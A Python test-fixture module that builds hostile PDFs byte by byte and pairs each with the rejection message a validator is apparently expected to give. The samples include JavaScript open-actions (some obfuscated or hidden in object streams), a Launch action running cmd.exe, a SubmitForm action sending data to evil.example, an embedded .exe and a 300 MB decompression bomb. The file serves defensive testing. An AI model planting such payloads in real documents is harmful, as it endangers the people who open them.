"""PDF files that would act, hide or swell, written byte by byte: rows of ``hostile_files``."""

import io
import zlib

from pypdf import PdfReader, PdfWriter

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
SCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def build(*more: bytes, catalog: bytes = b"", page: bytes = PAGE, kids: bytes = b"[3 0 R]", count: int = 1) -> bytes:
    """A PDF with a catalog (1), its pages (2), a page (3) and ``more`` objects from 4 on."""
    pages = b"<< /Type /Pages /Kids " + kids + b" /Count %d >>" % count
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", pages, page, *more]
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size + table
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def plain() -> bytes:
    return build()


def stream(facts: bytes, content: bytes) -> bytes:
    return b"<< " + facts + b" /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def acting(action: bytes) -> bytes:
    return build(action, catalog=b"/OpenAction 4 0 R")


def annotated(annotation: bytes) -> bytes:
    return build(annotation, page=PAGE.replace(b">>", b"/Annots [4 0 R] >>"))


def compressed(hidden: bytes, *, facts: bytes = b"/Filter /FlateDecode", packed: bytes | None = None) -> bytes:
    """A PDF whose action (object 4) lies in an object stream, found by a table that is itself a stream."""
    inner = b"4 0 " + hidden
    packed = zlib.compress(inner) if packed is None else packed
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE,
        5: stream(b"/Type /ObjStm /N 1 /First 4 " + facts, packed),
    }
    out, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    places[6] = len(out)
    rows = [(0, 0, 255)] + [(2, 5, 0) if n == 4 else (1, places[n], 0) for n in range(1, 7)]
    table = b"".join(bytes([kind]) + place.to_bytes(3, "big") + bytes([last]) for kind, place, last in rows)
    out += b"6 0 obj\n" + stream(b"/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R", table) + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % places[6]


def locked() -> bytes:
    out, writer = io.BytesIO(), PdfWriter()
    writer.append(PdfReader(io.BytesIO(plain())))
    writer.encrypt("", owner_password="x", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def with_file() -> bytes:
    file = stream(b"/Type /EmbeddedFile", b"MZ")
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
    return build(file, spec, catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>")


def swelling() -> bytes:
    """An object stream of 300 kB that unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"4 0 << >>") + b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(300))
    return compressed(b"", packed=packed + packer.flush())


def many_pages() -> bytes:
    return build(kids=b"[" + b"3 0 R " * 501 + b"]", count=501)


XFA = b"/AcroForm << /XFA 4 0 R /Fields [] >> /NeedsRendering true"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>"
ESCAPED = b"<< /S /J#61vaScr#69pt /JS (app.alert\\(1\\)) >>"
SUBMIT = b"<< /S /SubmitForm /F (http://evil.example/) >>"
RICH = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
ATTACHED = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"
NAMED_SCRIPT = b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"
WIDE = PAGE.replace(b"595 842", b"900000 900000")
NO_AREA = PAGE.replace(b"595 842", b"0 0")

#: name, file name, build, sentence (empty: taken in), what must be gone.
PDFS = (
    ("PDF with a script", "方案.pdf", lambda: acting(SCRIPT_ACTION), "含有脚本"),
    ("PDF with a script in escapes", "方案.pdf", lambda: acting(ESCAPED), "含有脚本"),
    ("PDF with a named script", "方案.pdf", lambda: build(SCRIPT_ACTION, catalog=NAMED_SCRIPT), "含有脚本"),
    ("PDF with a script in an object stream", "方案.pdf", lambda: compressed(SCRIPT_ACTION), "含有脚本"),
    ("PDF with an escaped script in an object stream", "方案.pdf", lambda: compressed(ESCAPED), "含有脚本"),
    ("PDF with a script packed twice", "方案.pdf",
     lambda: compressed(b"", facts=b"/Filter [/ASCIIHexDecode /FlateDecode]",
                        packed=zlib.compress(b"4 0 " + SCRIPT_ACTION).hex().encode() + b">"), "无法检查"),
    ("PDF that starts a program", "方案.pdf", lambda: acting(LAUNCH), "会运行程序"),
    ("PDF that sends data", "方案.pdf", lambda: acting(SUBMIT), "会运行程序或发送数据"),
    ("PDF with a file in it", "方案.pdf", with_file, "内嵌了其他文件"),
    ("PDF with a file pinned to a page", "方案.pdf", lambda: annotated(ATTACHED), "内嵌了其他文件"),
    ("PDF with media", "方案.pdf", lambda: annotated(RICH), "多媒体"),
    ("PDF with a dynamic form", "方案.pdf", lambda: build(stream(b"", b"<xdp/>"), catalog=XFA), "动态表单"),
    ("PDF with a lock", "方案.pdf", locked, "加了密码"),
    ("half a PDF", "方案.pdf", lambda: plain()[:200], "不是完整的 PDF"),
    ("PDF in name only", "方案.pdf", lambda: b"%PDF-1.7\nxx\n%%EOF\n", "不是完整的 PDF"),
    ("PDF without pages", "方案.pdf", lambda: build(kids=b"[]", count=0), "打不开"),
    ("PDF with 501 pages", "方案.pdf", many_pages, "超过 500 页"),
    ("PDF with a web page behind it", "方案.pdf", lambda: plain() + b"<html><script>", "末尾附加了别的内容"),
    ("PDF with an archive behind it", "方案.pdf", lambda: plain() + b"PK\x03\x04" + bytes(99), "末尾附加了别的内容"),
    ("PDF with a web page before it", "方案.pdf", lambda: b"<html><script>1</script>\n" + plain(), "是网页"),
    ("PDF that unpacks to 300 MB", "方案.pdf", swelling, "压缩炸弹"),
    ("PDF with a page as wide as a county", "方案.pdf", lambda: build(page=WIDE), "", b"900000"),
    ("PDF with a page without area", "方案.pdf", lambda: build(page=NO_AREA), "", b"JavaScript"),
)  # fmt: skip
